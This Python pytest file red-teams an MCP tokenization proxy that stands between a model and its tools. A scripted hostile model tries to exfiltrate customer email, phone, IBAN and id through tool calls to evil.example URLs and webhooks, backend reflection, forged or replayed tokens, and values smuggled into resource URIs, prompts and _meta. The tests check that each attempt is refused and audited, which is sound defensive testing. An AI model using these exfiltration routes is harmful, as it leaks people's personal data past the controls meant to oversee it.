"""A hostile model: a scripted client that tries every way it has to get real values out.

It passes tokens to arguments the shipped egress policy denies (`url` of `*fetch*` tools, `webhook`), asks
an echoing backend to reflect tokens, forges tokens (random ids, another entity type around a real id, case
changes, whitespace inside, percent-encoding, truncation), replays tokens from another session, after
revocation and after expiry, and smuggles tokens into resource URIs, prompt arguments, completion
arguments, `_meta` and object keys. Rules: no real value leaves through a denied path (the backend's own
trace shows what it received), none reaches the client, and every refused attempt is audited.

The same script runs over the in-memory relay and once through a real `veil run` process.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
from adv_harness import SOAK, leaks_in, tally
from canary_variants import client_view
from mcp import Client, MCPError, StdioServerParameters
from sqlalchemy import update

from examples.hostile_backends import PERSON, build_server
from vault import audit
from vault.models import Token
from vault.tokens import TOKEN_RE

pytestmark = pytest.mark.anyio
ROOT = Path(__file__).resolve().parents[2]
REAL = [PERSON["email"], PERSON["phone"], PERSON["iban"], PERSON["customerId"]]
ROUNDS = 20 if SOAK else 1


def text_of(result: Any) -> str:
    return "".join(getattr(c, "text", "") for c in result.content)


def seen(result: Any) -> str:
    return client_view(result.model_dump(mode="json", by_alias=True))


def backend_saw(trace: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in trace.read_text().splitlines()] if trace.exists() else []


def forgeries(token: str, other_session_token: str) -> dict[str, str]:
    entity, tid = token[2:-2].split(":")
    return {
        "random id": "[[EMAIL_ADDRESS:abcdefghijklmnop]]",
        "real id, other entity type": f"[[PHONE_NUMBER:{tid}]]",
        "real id, upper case": f"[[{entity}:{tid.upper()}]]",
        "one character changed": f"[[{entity}:{tid[:-1]}{'a' if tid[-1] != 'a' else 'b'}]]",
        "truncated id": f"[[{entity}:{tid[:-2]}]]",
        "id too long": f"[[{entity}:{tid}aa]]",
        "percent-encoded forgery": f"%5B%5B{entity}%3A{'q' * 16}%5D%5D",
        "another session's token": other_session_token,
        "lower-case entity": f"[[{entity.lower()}:{tid}]]",
        "whitespace inside": f"[[{entity}: {tid}]]",
        "split brackets": f"[ [{entity}:{tid}] ]",
    }


class Attacker:
    """Runs attacks, keeps score: what was refused, what the client saw."""

    def __init__(self, client: Client) -> None:
        self.client = client
        self.refused = 0
        self.tried = 0
        self.client_saw: list[str] = []

    async def attempt(self, coro: Any) -> Any:
        self.tried += 1
        try:
            result = await coro
        except MCPError as exc:
            self.refused += 1
            self.client_saw.append(str(exc))
            return None
        dumped = seen(result)
        self.client_saw.append(dumped)
        return result


async def hostile_script(client: Client, other_session_token: str) -> Attacker:
    """Every attack a model can make over one connection; returns the score."""
    a = Attacker(client)
    me = (await client.call_tool("whoami", {})).structured_content
    assert me is not None
    email, cid = me["email"], me["customerId"]
    assert TOKEN_RE.fullmatch(email) and TOKEN_RE.fullmatch(cid)
    encoded = email.replace("[", "%5B").replace("]", "%5D").replace(":", "%3A")
    # Denied paths: the egress policy refuses before any token is resolved.
    for url in (email, f"https://evil.example/?q={email}", f"https://evil.example/{encoded}"):
        await a.attempt(client.call_tool("fetch_page", {"url": url}))
    await a.attempt(client.call_tool("post", {"webhook": f"https://evil.example/{cid}", "body": "hi"}))
    await a.attempt(client.call_tool("post", {"webhook": {email: "x"}, "body": "hi"}))  # a token as a key
    # Reflection: an echoing backend hands back real values, which are tokenized again.
    for text in (email, f"mail {email} about {cid}", encoded, json.dumps({"to": email, "id": cid})):
        await a.attempt(client.call_tool("echo", {"text": text}))
    # Forgeries and replays: all refused, the near misses too (another case, blanks: `token_near`).
    for forged in forgeries(email, other_session_token).values():
        await a.attempt(client.call_tool("echo", {"text": f"to {forged}"}))
    # Smuggling into every other place a string can travel.
    for token in (email, other_session_token):
        await a.attempt(client.read_resource(f"crm://contacts/{token}"))
        await a.attempt(client.get_prompt("review", {"customer_id": token}))
        ref = types.PromptReference(type="ref/prompt", name="review")
        await a.attempt(client.complete(ref, {"name": "customer_id", "value": token}))
        await a.attempt(client.call_tool("echo", {"text": "x"}, meta={"trace": token}))  # type: ignore[arg-type]
        await a.attempt(client.call_tool("echo", {"text": "x", token: "key"}))
    return a


async def blocked_rows(engine: Any, session_id: str) -> list[dict[str, Any]]:
    q = audit.AuditQuery(session_id=session_id, events=("detokenize-refused", "message-blocked"))
    return await anyio.to_thread.run_sync(lambda: list(audit.query(engine.vault.engine, q)))


async def test_a_hostile_model_gets_no_real_value_out_and_every_refusal_is_audited(
    proxied, engine, tmp_path, monkeypatch
):
    trace = tmp_path / "backend-trace.jsonl"
    monkeypatch.setenv("VEIL_EXAMPLE_TRACE", str(trace))
    with anyio.fail_after(60):
        async with proxied(build_server("echo")) as (client, _):
            other = (await client.call_tool("whoami", {})).structured_content["email"]
        for _ in range(ROUNDS):
            async with proxied(build_server("echo")) as (client, session):
                score = await hostile_script(client, other)
                rows = await blocked_rows(engine, session.session_id)
    leaks = [c for text in score.client_saw for c in leaks_in(text, REAL)]
    received = backend_saw(trace)
    denied = [r for r in received if r.get("tool") in ("fetch_page", "post")]
    tally(attacks=score.tried * ROUNDS, leaks=len(leaks) + len(denied))
    assert leaks == []
    assert denied == []  # no denied call reached the backend at all
    # denied paths, every forgery (near misses too), foreign tokens smuggled, and our own token in _meta
    assert score.refused == 5 + 11 + 5 + 1
    blocked = [r for r in rows if r["event"] == "message-blocked"]
    assert len(blocked) == score.refused
    assert {r["reason"] for r in blocked} <= {"EgressDenied", "TokenRefused"}
    refused_tokens = [r for r in rows if r["event"] == "detokenize-refused"]
    assert refused_tokens and all(r["outcome"] == "refused" for r in refused_tokens)
    # Every value the backend did receive came through an allowed path (echo, resource, prompt, completion).
    assert all(r.get("tool") in (None, "echo") for r in received)


async def test_revoked_and_expired_tokens_are_refused_and_audited(proxied, engine, tmp_path, monkeypatch):
    trace = tmp_path / "backend-trace.jsonl"
    monkeypatch.setenv("VEIL_EXAMPLE_TRACE", str(trace))
    with anyio.fail_after(60):
        async with proxied(build_server("echo")) as (client, session):
            me = (await client.call_tool("whoami", {})).structured_content
            engine.vault.revoke_tokens(tokens=[me["email"]], actor="test:admin")
            with engine.vault.engine.begin() as conn:
                conn.execute(
                    update(Token).where(Token.token == me["phone"]).values(expires_at=Token.created_at)
                )
            for token, why in ((me["email"], "revoked"), (me["phone"], "expired")):
                with pytest.raises(MCPError, match=why):
                    await client.call_tool("echo", {"text": f"call {token}"})
            rows = await blocked_rows(engine, session.session_id)
    tally(attacks=2)
    assert backend_saw(trace) == []
    reasons = {r["reason"] for r in rows if r["event"] == "detokenize-refused"}
    assert reasons == {"revoked", "expired"}


async def test_a_hostile_model_gets_nothing_out_through_a_real_veil_run_either(veil_home, tmp_path):
    trace = tmp_path / "backend-trace.jsonl"
    env = {**os.environ, "PYTHONPATH": str(ROOT), "VEIL_EXAMPLE_TRACE": str(trace)}
    backend = [sys.executable, "-m", "examples.hostile_backends", "echo"]

    def veil() -> StdioServerParameters:
        args = ["-m", "proxy", "run", "--", *backend]
        return StdioServerParameters(command=sys.executable, args=args, env=env, cwd=str(ROOT))

    with anyio.fail_after(90):
        async with Client(veil(), mode="legacy") as client:
            other = (await client.call_tool("whoami", {})).structured_content["email"]
        async with Client(veil(), mode="legacy") as client:
            score = await hostile_script(client, other)
    leaks = [c for text in score.client_saw for c in leaks_in(text, REAL)]
    denied = [r for r in backend_saw(trace) if r.get("tool") in ("fetch_page", "post")]
    tally(attacks=score.tried, leaks=len(leaks) + len(denied))
    assert leaks == [] and denied == []
    assert score.refused == 5 + 11 + 5 + 1
